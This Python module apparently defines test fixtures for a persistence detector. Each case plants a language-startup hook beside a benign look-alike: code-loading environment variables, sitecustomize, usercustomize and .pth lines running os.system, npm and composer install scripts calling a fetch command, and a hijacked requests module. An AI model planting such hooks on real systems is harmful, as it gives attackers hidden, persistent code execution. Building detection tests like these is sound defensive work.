"""What languages run whenever they start."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Owner, Twin, add, both, put
from plantings.command import FETCH, HIDDEN, hidden

_LANGUAGES: Final = "Language hooks"

_PYTHON: Final = "T1546.018"

_DIST: Final = "/usr/lib/python3/dist-packages"

_ANNA: Final[Owner] = (1000, 1000)

_SYSTEM: Final = "import os; os.system"

_PTH: Final = Twin(
    "pth-folder",
    "a folder with one's own modules",
    "/usr/local/lib/python3.11/dist-packages/orders.pth",
    put("/usr/local/lib/python3.11/dist-packages/orders.pth", "/opt/orders/lib\n"),
    table="file",  # it starts nothing
)

_SITE: Final = Twin(
    "sitecustomize-own",
    "a setting for one's own programs",
    "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
    put(
        "/usr/local/lib/python3.11/dist-packages/sitecustomize.py",
        "import sys\nsys.dont_write_bytecode = True\n",
    ),
)


def _language(
    slug: str,
    what: str,
    path: str,
    text: str,
    twin: Twin,
    technique: str = "T1546",
    owner: Owner = (0, 0),
) -> Case:
    return Case(slug, _LANGUAGES, technique, what, path, add(path, text, 0o644, owner), twin)


def _variable(slug: str, bad: str, good: str) -> Case:
    twin = Twin(
        f"{slug}-own", "a setting of one's own", "/etc/environment", add("/etc/environment", good)
    )
    return _language(slug, "a variable that loads code", "/etc/environment", bad, twin)


CASES: Final = (
    _variable("pythonstartup", "PYTHONSTARTUP=/var/tmp/.cache/p.py\n", "PYTHONUNBUFFERED=1\n"),
    _variable("perl5opt", "PERL5OPT=-I/var/tmp/.cache -MCache\n", "PERL_UNICODE=SDA\n"),
    _variable("rubyopt", "RUBYOPT=-r/var/tmp/.cache/r.rb\n", "RUBYOPT=-W0\n"),
    _variable(
        "node-options",
        "NODE_OPTIONS=--require=/var/tmp/.cache/n.js\n",
        "NODE_OPTIONS=--max-old-space-size=4096\n",
    ),
    _language(
        "sitecustomize",
        "code whenever Python starts",
        "/usr/lib/python3.11/sitecustomize.py",
        f'{_SYSTEM}("{FETCH} &")\n',
        _SITE,
        _PYTHON,
    ),
    _language(
        "pth",
        "a line that Python runs",
        f"{_DIST}/zz-cache.pth",
        f'import os; os.system("{HIDDEN} &")\n',
        _PTH,
        _PYTHON,
    ),
    _language(
        "usercustomize",
        "code whenever one person's Python starts",
        "/home/anna/.local/lib/python3.11/site-packages/usercustomize.py",
        f"{_SYSTEM}('{HIDDEN} &')\n",
        _SITE,
        _PYTHON,
        _ANNA,
    ),
    Case(
        "npm-script",
        _LANGUAGES,
        "T1546",
        "code whenever an application is installed",
        "/opt/shop/package.json",
        put(
            "/opt/shop/package.json",
            f'{{"name": "shop", "scripts": {{"preinstall": "{FETCH}"}}}}\n',
        ),
        Twin(
            "npm-script-own",
            "a program is built",
            "/opt/orders/package.json",
            put(
                "/opt/orders/package.json",
                '{"name": "orders", "scripts": {"postinstall": "node build.js"}}\n',
            ),
            table="file",
        ),
    ),
    Case(
        "composer-script",
        _LANGUAGES,
        "T1546",
        "code whenever an application is installed",
        "/var/www/shop/composer.json",
        put(
            "/var/www/shop/composer.json",
            f'{{"name": "harbour/shop", "scripts": {{"post-install-cmd": "{FETCH}"}}}}\n',
            owner=(33, 33),
        ),
        Twin(
            "composer-script-own",
            "a cache is cleared",
            "/var/www/shop/composer.json",
            put(
                "/var/www/shop/composer.json",
                '{"name": "harbour/shop", "scripts": {"post-install-cmd": "@php bin/clear.php"}}\n',
                owner=(33, 33),
            ),
            table="file",
        ),
    ),
    Case(
        "pip-wrapper",
        _LANGUAGES,
        "T1546",
        "a module of no package in the place of a package's",
        f"{_DIST}/requests/__init__.py",
        both(
            hidden(), put(f"{_DIST}/requests/__init__.py", f"import os\nos.system('{HIDDEN} &')\n")
        ),
        _PTH,
        table="file",
    ),
)
